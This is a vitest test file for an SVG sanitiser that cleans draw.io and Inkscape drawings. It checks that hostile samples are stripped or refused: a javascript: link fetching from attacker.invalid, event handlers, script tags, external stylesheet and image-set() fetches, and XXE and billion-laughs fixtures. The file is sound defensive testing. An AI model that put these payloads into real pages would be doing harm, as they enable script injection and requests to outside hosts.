/**
 * The way of every drawing, on its own (no browser): what a draw.io export keeps, what each
 * attack loses, and what is refused before a DOM is built.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { DrawingRefused, MAX_DRAWING_BYTES, sanitiseDrawing } from '../../scripts/drawings/index.ts';
import { MAX_DEPTH, MAX_ELEMENTS } from '../../scripts/drawings/xml.ts';
import { root } from '../helpers/cli.ts';

const fixtures = path.join(root, 'tests/fixtures/drawings');
const fixture = (name: string) => readFileSync(path.join(fixtures, name), 'utf8');

const LABELS = [
  'Beheermodel en relaties tussen stelsels',
  'DK Overzicht van de digitale koppelingen',
  'Stelselcatalogus met alle afspraken',
];

async function refusal(text: string): Promise<string> {
  const error = await sanitiseDrawing(text).then(
    () => undefined,
    (failure: unknown) => failure,
  );
  expect(error).toBeInstanceOf(DrawingRefused);
  return (error as Error).message;
}

describe('a draw.io drawing', () => {
  it('keeps its HTML labels in the XHTML namespace, its fallbacks, its size; loses its DOCTYPE and editable copy', async () => {
    const drawing = await sanitiseDrawing(fixture('drawio-labels.svg'));
    for (const label of LABELS) expect(drawing.svg).toContain(`>${label}</div>`);
    expect(drawing.svg).toContain('<foreignObject');
    expect(drawing.svg).toContain('<div xmlns="http://www.w3.org/1999/xhtml"');
    expect(drawing.svg).toContain('>Beheermodel en rel...</text>');
    expect(drawing.svg).not.toMatch(/DOCTYPE|<\?xml|content="|mxfile/);
    expect({ width: drawing.width, height: drawing.height }).toEqual({ width: 441, height: 221 });
    // Its closing notice links to draw.io's help: the link goes, the group it drew stays.
    expect(drawing.removed).toEqual([
      'xlink:href="https://www.drawio.com/doc/faq/svg-export-text-problems" on <a> (a link out of the drawing)',
    ]);
    expect(drawing.svg).not.toContain('<a ');
    expect(drawing.svg).toContain('<g transform="translate(0,-5)"><text');
  });

  it('has labels in XHTML an EPUB may hold; rich labels (<font>, align) are named', async () => {
    expect((await sanitiseDrawing(fixture('drawio-labels.svg'))).nonXhtml).toEqual([]);
    const rich = await sanitiseDrawing(fixture('drawio-rich-labels.svg'));
    expect(rich.nonXhtml).toEqual(['<font>', 'color on <font>', 'align on <div>']);
    expect(rich.removed).toEqual([]);
  });

  it('is the same drawing when sanitised again (nothing left to remove)', async () => {
    const once = await sanitiseDrawing(fixture('drawio-labels.svg'));
    const twice = await sanitiseDrawing(once.svg);
    expect(twice.svg).toBe(once.svg);
    expect(twice.removed).toEqual([]);
  });
});

describe('a hostile drawing', () => {
  it('loses its scripts, event handlers and javascript: link, each named', async () => {
    const drawing = await sanitiseDrawing(fixture('hostile/script.svg'));
    expect(drawing.svg).not.toMatch(/script|onload|onclick|javascript|attacker/i);
    expect(drawing.svg).toContain('Zonder code');
    expect(drawing.removed).toEqual([
      `href="javascript:fetch('http://attacker.invalid/js')" on <a> (a link out of the drawing)`,
      'onload on <svg>',
      'a <script>',
      'onclick on <rect>',
    ]);
  });

  it('loses every reference out of itself (href, xlink:href, use, image, @import, url(), escaped url) and keeps its own', async () => {
    const drawing = await sanitiseDrawing(fixture('hostile/external.svg'));
    expect(drawing.svg).not.toMatch(/attacker|file:|@import|\\75/);
    expect(drawing.svg).toContain('fill="url(#verloop)"');
    expect(drawing.svg).toContain('<use xlink:href="#vorm"/>');
    expect(drawing.svg).toContain('Buiten weg');
    // The pictures left without a source go: they would show nothing.
    expect(drawing.svg).not.toMatch(/<image|<img/);
    expect(drawing.nonXhtml).toEqual([]);
    expect(drawing.removed).toHaveLength(8);
    expect(drawing.removed.join('\n')).toMatch(/<style> with @import/);
    expect(drawing.removed.join('\n')).toMatch(/CSS that cannot be read/);
  });

  it('loses a fetching CSS function and a style sheet named in the prolog', async () => {
    const drawing = await sanitiseDrawing(
      '<?xml-stylesheet href="http://attacker.invalid/a.css"?><svg xmlns="http://www.w3.org/2000/svg">' +
        '<rect style="fill: image-set(&quot;http://attacker.invalid/b.png&quot; 1x)"/></svg>',
    );
    expect(drawing.svg).not.toMatch(/attacker|stylesheet/);
    expect(drawing.removed).toEqual([
      'a style sheet it names (<?xml-stylesheet href="http://attacker.invalid/a.css"?>)',
      'style="fill: image-set("http://attacker.invalid/b.png" 1x)" on <rect> (image-set())',
    ]);
  });

  it('with entity declarations (XXE, billion laughs) is refused before anything is expanded', async () => {
    for (const name of ['hostile/xxe.svg', 'hostile/billion-laughs.svg']) {
      expect(await refusal(fixture(name))).toMatch(/declares entities in a DOCTYPE/);
    }
  });

  it('that uses an entity it never declared, or is no SVG, or is too deep, too many or too large, is refused', async () => {
    expect(await refusal('<svg xmlns="http://www.w3.org/2000/svg"><text>&geheim;</text></svg>')).toMatch(
      /not well-formed XML \(1:\d+: undefined entity\)/,
    );
    expect(await refusal('<html xmlns="http://www.w3.org/1999/xhtml"/>')).toMatch(/not an SVG drawing/);
    expect(await refusal('<svg><rect/></svg>')).toMatch(/not an SVG drawing/);
    const deep = `<svg xmlns="http://www.w3.org/2000/svg">${'<g>'.repeat(MAX_DEPTH)}${'</g>'.repeat(MAX_DEPTH)}</svg>`;
    expect(await refusal(deep)).toMatch(/nested more than 256 deep/);
    const many = `<svg xmlns="http://www.w3.org/2000/svg">${'<rect/>'.repeat(MAX_ELEMENTS)}</svg>`;
    expect(await refusal(many)).toMatch(/more than 20000 elements/);
    const large = `<svg xmlns="http://www.w3.org/2000/svg"><desc>${'x'.repeat(MAX_DRAWING_BYTES)}</desc></svg>`;
    expect(await refusal(large)).toMatch(/larger than 8 MB/);
  });
});

describe('what a drawing program keeps for itself', () => {
  it('goes without a word: Inkscape’s settings, RDF metadata, namespace declarations', async () => {
    const drawing = await sanitiseDrawing(
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" ' +
        'xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" ' +
        'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" inkscape:version="1.0" width="10" height="10">' +
        '<sodipodi:namedview id="base"/><metadata><rdf:RDF/></metadata>' +
        '<g inkscape:label="Laag 1"><title>Een vak</title><rect width="5" height="5"/></g></svg>',
    );
    expect(drawing.removed).toEqual([]);
    expect(drawing.svg).toBe(
      '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><g><title>Een vak</title><rect width="5" height="5"/></g></svg>',
    );
  });
});

describe('the size of a drawing', () => {
  it('comes from width and height, else the viewBox, else 300 × 150', async () => {
    const size = async (attributes: string) => {
      const { width, height } = await sanitiseDrawing(`<svg xmlns="http://www.w3.org/2000/svg" ${attributes}/>`);
      return [width, height];
    };
    expect(await size('width="120mm" height="2in"')).toEqual([454, 192]);
    expect(await size('width="100%" viewBox="0 0 800 600"')).toEqual([800, 600]);
    expect(await size('width="400" viewBox="0 0 800 600"')).toEqual([400, 300]);
    expect(await size('')).toEqual([300, 150]);
  });
});
